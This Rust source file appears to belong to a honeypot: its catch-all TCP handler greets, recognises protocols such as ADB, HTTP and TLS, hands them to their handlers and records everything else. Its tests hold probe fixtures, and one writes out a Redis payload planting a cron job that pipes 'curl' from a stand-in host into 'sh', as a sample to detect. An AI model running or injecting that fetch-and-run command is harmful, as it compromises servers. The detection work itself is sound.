//! `tcp`: for ports that no protocol claims. Where real servers speak first, such a server does; elsewhere it looks at the first bytes, gives a
//! protocol that it recognises to that protocol's handler, records everything else and closes, as servers do on what they do not
//! understand. As configured, it never says anything instead, or answers with random bytes as Glutton does.

mod capture;
mod greeted;
mod packet;
mod server;
mod table;

use std::sync::Arc;
use std::sync::atomic::{AtomicU32, Ordering};
use std::time::Duration;

use serde::Deserialize;

use super::builtin::Builtin;
use super::native::{is_native, is_within_tls};
use super::recognise::{Protocol, Recognised, recognise};
use super::registry::{Environment, Maker, boxed};
use super::tls::Tls;
use super::{ClientHello, Context, Handler, Handlers, Random, Session};
use crate::events::Event;
use crate::flow::Transport;
pub(super) use capture::{Answer, Capture};
use greeted::Greeted;
use server::Server;

pub(super) const BUILTIN: Builtin = Builtin {
    name: "tcp",
    aliases: &["default"],
    transports: &[Transport::Tcp],
    default_ports: &[],
    about: "greets where servers speak first, else recognises protocols on any TCP port, records the rest",
    prepare,
};

/// `[handlers.tcp]`
#[derive(Debug, Clone, Deserialize)]
#[serde(default, deny_unknown_fields)]
struct Settings {
    /// What the visitor gets. A greeting brings out the words of clients that wait for one; random bytes are what no server says.
    answer: Answer,
    /// Silence after which what came is taken as the whole, in milliseconds; up to the same again is added, by the session's seed.
    quiet_ms: u64,
    /// Time that a visitor has for the first byte, in seconds.
    first_byte_secs: u64,
    /// A protocol that is recognised goes to its handler.
    recognise: bool,
    /// Silence after which the beginning of a protocol's first message is given up, in milliseconds.
    undecided_ms: u64,
}

impl Default for Settings {
    fn default() -> Self {
        Self { answer: Answer::Banner, quiet_ms: 200, first_byte_secs: 45, recognise: true, undecided_ms: 2_000 }
    }
}

fn prepare(environment: &Environment<'_>) -> Result<Maker, toml::de::Error> {
    let settings: Settings = environment.settings()?;
    let limit = environment.max_payload;
    let handlers = environment.handlers.clone();
    let persona = Arc::clone(&environment.persona);
    let kit = environment.tls_kit();
    let greeted = AtomicU32::new(0);
    Ok(boxed(move |session: &Session| -> Box<dyn Handler> {
        let greets = settings.answer == Answer::Banner;
        let Some((server, within_tls)) = Server::at(session.dialled.port()).filter(|_| greets) else {
            return Box::new(CatchAll::new(&settings, limit, handlers.clone(), session.seed));
        };
        let greeted = Greeted::new(server, Arc::clone(&persona), limit, greeted.fetch_add(1, Ordering::Relaxed));
        if within_tls { Box::new(Tls::new(Arc::clone(&kit), greeted)) } else { Box::new(greeted) }
    }))
}

/// An event with the protocol's name, and the fingerprints of a TLS client that got no further than its hello.
fn named(event: Event, protocol: Option<&'static str>, bytes: &[u8]) -> Event {
    let event = match ClientHello::read(bytes) {
        Some(hello) => event.with("tls", hello.to_value()),
        None => event,
    };
    match protocol {
        Some(name) => event.with("protocol", name),
        None => event,
    }
}

/// Waits for the bytes that tell the protocol, then hands over or records.
struct CatchAll {
    capture: Capture,
    handlers: Handlers,
    /// What has come while the protocol is not told: less than [`super::recognise::LOOK`] bytes. `None` once it is.
    undecided: Option<Vec<u8>>,
    /// Silence that ends the wait for the next byte: once a protocol could be meant, and before.
    quiet: Duration,
    patience: Duration,
}

impl CatchAll {
    fn new(settings: &Settings, limit: usize, handlers: Handlers, seed: u64) -> Self {
        let mut random = Random::new(seed);
        let quiet = settings.quiet_ms.saturating_add(random.within(&(0..=settings.quiet_ms)));
        let quiet = Duration::from_millis(quiet);
        let first_byte = Duration::from_secs(settings.first_byte_secs);
        Self {
            capture: Capture::new(limit, settings.answer, quiet, first_byte, random),
            handlers,
            undecided: settings.recognise.then(Vec::new),
            quiet,
            patience: Duration::from_millis(settings.undecided_ms).max(quiet),
        }
    }

    /// The protocol's handler serves this port: another protocol's own port takes nothing else, but requests of HTTP are read whole.
    fn has_handler(&self, protocol: &Protocol, port: u16) -> bool {
        let takes =
            !is_native(port) || protocol.handler == "http" || protocol.handler == "https" && is_within_tls(port);
        takes && self.handlers.contains(protocol.handler, Transport::Tcp)
    }

    /// Gives the session to the protocol's handler (true), or records what has come and whatever follows.
    fn decide(&mut self, cx: &mut Context<'_>, protocol: Option<&'static Protocol>) -> bool {
        let bytes = self.undecided.take().unwrap_or_default();
        if let Some(protocol) = protocol {
            if self.has_handler(protocol, cx.session().dialled.port()) {
                cx.hand_over(protocol.handler, bytes);
                return true;
            }
            self.capture.set_protocol(protocol.name);
        }
        if !bytes.is_empty() {
            self.capture.data(cx, &bytes);
        }
        false
    }

    /// Nothing follows: decides by what has come; true when the session is handed over.
    fn decide_late(&mut self, cx: &mut Context<'_>) -> bool {
        let Some(seen) = &self.undecided else { return false };
        let likely = if let Recognised::NotYet(likely) = recognise(seen) { likely } else { None };
        self.decide(cx, likely)
    }
}

impl Handler for CatchAll {
    fn open(&mut self, cx: &mut Context<'_>) {
        self.capture.open(cx);
    }

    fn data(&mut self, cx: &mut Context<'_>, bytes: &[u8]) {
        let Some(seen) = &mut self.undecided else { return self.capture.data(cx, bytes) };
        seen.extend_from_slice(bytes);
        match recognise(seen) {
            Recognised::NotYet(likely) => cx.deadline_in(if likely.is_some() { self.quiet } else { self.patience }),
            Recognised::Nothing => {
                self.decide(cx, None);
            }
            Recognised::As(protocol) => {
                self.decide(cx, Some(protocol));
            }
        }
    }

    fn eof(&mut self, cx: &mut Context<'_>) {
        if !self.decide_late(cx) {
            self.capture.eof(cx);
        }
    }

    fn deadline(&mut self, cx: &mut Context<'_>) {
        if !self.decide_late(cx) {
            self.capture.deadline(cx);
        }
    }

    fn closed(&mut self, cx: &mut Context<'_>) {
        if let Some(bytes) = self.undecided.take() {
            self.capture.keep(&bytes);
        }
        self.capture.closed(cx);
    }
}

#[cfg(test)]
#[path = "dialogues.rs"]
mod dialogues;

#[cfg(test)]
mod tests {
    use super::super::transcript::{Step, Transcript};

    #[test]
    fn what_comes_is_recorded_and_where_wanted_answered_with_random_bytes_after_silence() {
        let steps = [Step::Recv(b"\x16\x03\x01hello"), Step::Wait(1_000)];
        let outcome = Transcript::tcp("tcp", "answer = 'random'").run(&steps);
        assert!((12..=511).contains(&outcome.sent().len()));
        assert!(outcome.closed);
        let event = outcome.the_event("payload");
        assert_eq!(event.fields["payload_hex"], "16030168656c6c6f");
        assert_eq!(event.fields["direction"], "recv");
        assert_eq!(event.fields["bytes"], 8);
    }

    #[test]
    fn pieces_with_short_pauses_make_one_payload() {
        let steps = [Step::Recv(b"*1\r\n"), Step::Wait(100), Step::Recv(b"$4\r\nPING\r\n"), Step::Wait(1_000)];
        let outcome = Transcript::tcp("tcp", "").run(&steps);
        assert_eq!(outcome.the_event("payload").fields["bytes"], 14);
    }

    #[test]
    fn a_visitor_that_ends_its_side_is_answered_at_once() {
        let outcome = Transcript::tcp("tcp", "answer = 'random'").run(&[Step::Recv(b"x"), Step::Eof]);
        assert!(!outcome.sent().is_empty() && outcome.closed);
    }

    #[test]
    fn silence_answers_nothing() {
        let outcome = Transcript::tcp("tcp", "answer = 'silence'").run(&[Step::Recv(b"x"), Step::Eof]);
        assert!(outcome.sent().is_empty() && outcome.closed);
        outcome.the_event("payload");
    }

    #[test]
    fn a_visitor_that_sends_nothing_still_makes_an_event() {
        let outcome = Transcript::tcp("tcp", "").run(&[Step::Wait(44_000)]);
        assert!(!outcome.closed);
        let outcome = Transcript::tcp("tcp", "").run(&[Step::Wait(46_000)]);
        assert!(outcome.closed && outcome.sent().is_empty());
        outcome.the_event("connect");
    }

    #[test]
    fn the_limit_ends_the_recording_and_the_rest_is_not_kept() {
        let outcome = Transcript::tcp("tcp", "").run(&[Step::Recv(&[0x41; 4_096])]);
        assert!(outcome.closed);
        assert_eq!(outcome.the_event("payload").fields["payload_hex"].as_str().unwrap().len(), 2 * 4_096);
    }

    /// CNXN of ADB, as nmap sends it.
    const CNXN: &[u8] = b"CNXN\0\0\0\x01\0\x10\0\0\x07\0\0\0\x32\x02\0\0\xbc\xb1\xa7\xb1host::\0";

    #[test]
    fn a_protocol_on_any_port_goes_to_its_handler_in_whatever_pieces_it_comes() {
        let (one, other) = CNXN.split_at(9);
        let outcome = Transcript::tcp("tcp", "").run(&[Step::Recv(one), Step::Wait(1_900), Step::Recv(other)]);
        assert_eq!(outcome.handed_over, Some(("adb".to_owned(), CNXN.to_vec())));
        assert!(outcome.events.is_empty() && outcome.sent().is_empty(), "the new handler records all of it");
    }

    #[test]
    fn what_browsers_send_goes_to_the_web_handlers() {
        let hello = b"\x16\x03\x01\x01\x31\x01\x00\x01\x2d\x03\x03";
        let requests: [(&[u8], &str); 2] = [(b"POST /x HTTP/1.1\r\n\r\n", "http"), (hello, "https")];
        for (bytes, handler) in requests {
            let outcome = Transcript::tcp("tcp", "").run(&[Step::Recv(bytes)]);
            assert_eq!(outcome.handed_over, Some((handler.to_owned(), bytes.to_vec())));
        }
    }

    #[test]
    fn a_protocol_without_a_handler_is_recorded_under_its_name() {
        let steps = [Step::Recv(b"\x05\x01\x00"), Step::Wait(1_000)];
        let outcome = Transcript::tcp("tcp", "answer = 'random'").run(&steps);
        assert_eq!(outcome.handed_over, None);
        assert!(outcome.closed && outcome.sent().is_empty(), "what it awaits are no random bytes");
        let event = outcome.the_event("payload");
        assert_eq!((&event.fields["protocol"], &event.fields["payload_hex"]), (&"socks5".into(), &"050100".into()));
    }

    #[test]
    fn a_message_that_breaks_off_before_its_protocol_is_told_is_recorded() {
        for end in [Step::Wait(3_000), Step::Eof] {
            let outcome = Transcript::tcp("tcp", "").run(&[Step::Recv(b"CNXN\x01\0\0"), end]);
            assert!(outcome.closed && outcome.handed_over.is_none());
            let event = outcome.the_event("payload");
            assert_eq!(event.fields["payload_hex"], "434e584e010000");
            assert!(!event.fields.contains_key("protocol"));
        }
    }

    #[test]
    fn an_operator_can_do_without_recognition() {
        let outcome = Transcript::tcp("tcp", "recognise = false").run(&[Step::Recv(CNXN), Step::Eof]);
        assert!(outcome.closed && outcome.handed_over.is_none());
        outcome.the_event("payload");
    }

    #[test]
    fn unless_told_otherwise_a_port_closes_on_unknown_words_and_hands_over_known_ones() {
        let transcript = Transcript::tcp("tcp", "");
        let outcome = transcript.run(&[Step::Recv(b"hello\r\n"), Step::Wait(1_000)]);
        assert!(outcome.sent().is_empty() && outcome.closed);
        outcome.the_event("payload");
        let outcome = transcript.run(&[Step::Recv(CNXN)]);
        assert!(outcome.handed_over.is_some());
    }

    #[test]
    fn a_port_where_servers_speak_first_greets_only_where_that_is_wanted() {
        for (settings, greets) in [("", true), ("answer = 'silence'", false), ("answer = 'random'", false)] {
            let outcome = Transcript::tcp("tcp", settings).dialling(21).run(&[Step::Wait(1_000)]);
            assert_eq!(outcome.sent().starts_with(b"220 "), greets, "{settings}");
        }
    }

    #[test]
    fn where_another_protocol_is_at_home_only_http_goes_to_its_handler_and_the_rest_is_named() {
        let hello = b"\x16\x03\x01\0\x2d\x01\0\0\x29\x03\x03abcdefghijklmnopqrstuvwxyz012345\0\0\x02\x13\x01\x01\0";
        for (port, bytes, protocol) in [(6_379, CNXN, "adb"), (3_389, hello, "tls")] {
            let outcome = Transcript::tcp("tcp", "").dialling(port).run(&[Step::Recv(bytes), Step::Wait(1_000)]);
            assert!(outcome.closed && outcome.sent().is_empty() && outcome.handed_over.is_none(), "{port}");
            let event = outcome.the_event("payload");
            assert_eq!(event.fields["protocol"], protocol);
            assert_eq!(event.fields.contains_key("tls"), protocol == "tls", "{event:?}");
        }
        for (port, bytes, handler) in
            [(6_379, &b"GET / HTTP/1.1\r\n"[..], "http"), (636, hello, "https"), (1_234, hello, "https")]
        {
            let outcome = Transcript::tcp("tcp", "").dialling(port).run(&[Step::Recv(bytes)]);
            assert_eq!(outcome.handed_over.unwrap().0, handler, "{port}");
        }
    }

    #[test]
    fn what_a_job_for_cron_would_fetch_is_recorded_wherever_it_is_sent() {
        let set =
            b"*3\r\n$3\r\nSET\r\n$1\r\nx\r\n$56\r\n\n*/1 * * * * curl -fsSL http://192.0.2.9/init.sh | sh\n\n\r\n";
        let outcome = Transcript::tcp("tcp", "").dialling(6_379).run(&[Step::Recv(set), Step::Eof]);
        outcome.the_event("payload");
        let download = &outcome.the_event("download").fields;
        assert_eq!((&download["url"], &download["tool"]), (&"http://192.0.2.9/init.sh".into(), &"curl".into()));
    }

    #[test]
    fn everything_that_came_is_handed_over_however_much_it_is() {
        let mut upload = CNXN.to_vec();
        upload.resize(60_000, b'x');
        let outcome = Transcript::tcp("tcp", "").run(&[Step::Recv(&upload)]);
        assert_eq!(outcome.handed_over.unwrap().1, upload);
    }
}
